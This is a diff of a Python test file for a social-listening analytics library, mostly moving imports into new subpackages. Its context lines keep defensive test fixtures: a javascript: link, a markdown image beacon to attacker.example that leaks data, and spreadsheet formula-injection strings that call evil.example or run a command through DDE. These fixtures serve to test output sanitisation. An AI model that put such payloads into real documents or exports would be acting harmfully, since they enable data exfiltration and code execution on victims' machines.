@@ -24,13 +24,14 @@ import pytest
 import yaml
 from nbconvert.filters.markdown_mistune import markdown2html_mistune
 
-from scrm_lib import cli, runner
-from scrm_lib import listening as L
-from scrm_lib.audit import pseudonymise as audit_pseudonymise
-from scrm_lib.config import PROJECT_ROOT
-from scrm_lib.errors import ParamsError
-from scrm_lib.nbtools import Md, md_escape, md_inline, md_text
+from scrm_lib import cli
+from scrm_lib.core.config import PROJECT_ROOT
+from scrm_lib.core.errors import ParamsError
+from scrm_lib.metrics import listening as L
+from scrm_lib.metrics.audit import pseudonymise as audit_pseudonymise
 from scrm_lib.params import input_path_fields, load_params
+from scrm_lib.reports.nbtools import Md, md_escape, md_inline, md_text
+from scrm_lib.run import runner
 
 LINK = "[clickme](javascript:alert('x'))"
 BEACON = "![p](https://attacker.example/p.png?leak=1)"
@@ -298,8 +299,8 @@ def test_out_of_range_years_name_line_and_column(tmp_path: Path, year: str,
     ("constants:\n  created_at: 2024-02-30\n", "line 2, column 15: '2024-02-30' is not a real date"),
 ])
 def test_bad_mapping_file_is_blamed_not_the_data(tmp_path: Path, mapping: str, match: str) -> None:
-    from scrm_lib.errors import DataValidationError
-    from scrm_lib.io import load_mapping
+    from scrm_lib.core.errors import DataValidationError
+    from scrm_lib.data.io import load_mapping
 
     f = tmp_path / "map.yaml"
     f.write_text(mapping, encoding="utf-8")
@@ -310,7 +311,7 @@ def test_bad_mapping_file_is_blamed_not_the_data(tmp_path: Path, mapping: str, m
 
 # --------------------------------------------------------------------------- 10. spreadsheet exports
 def test_score_csv_neutralises_formulas_refuses_xlsx(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    from scrm_lib.models.stream import ChunkWriter, neutralise_formulas
+    from scrm_lib.modeling.stream import ChunkWriter, neutralise_formulas
 
     df = pd.DataFrame({"text": ['=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1", "@a", "-2 stars",
                                 "\tx", "fine"], "score": [-0.5, 0.1, -1.0, 0.0, 0.2, 0.3, 0.4]})
@@ -379,7 +380,7 @@ def _outlying(tmp_path: Path) -> Path:
 
 
 def test_outlying_timestamps_warn_and_periods_are_capped(tmp_path: Path) -> None:
-    from scrm_lib.io import load_mentions
+    from scrm_lib.data.io import load_mentions
 
     df = load_mentions(_outlying(tmp_path))
     with pytest.warns(UserWarning, match=r"6 post\(s\) dated far outside the rest \(1900-01-01 to 2099-12-31"):
@@ -405,7 +406,7 @@ def test_score_refuses_a_model_without_predict_proba(tmp_path: Path, capsys: pyt
     from sklearn.pipeline import make_pipeline
     from sklearn.svm import LinearSVC
 
-    from scrm_lib.models.persist import save_model
+    from scrm_lib.modeling.persist import save_model
 
     model = make_pipeline(TfidfVectorizer(), LinearSVC()).fit(["good", "bad", "ok", "awful"], ["positive", "negative"] * 2)
     try:
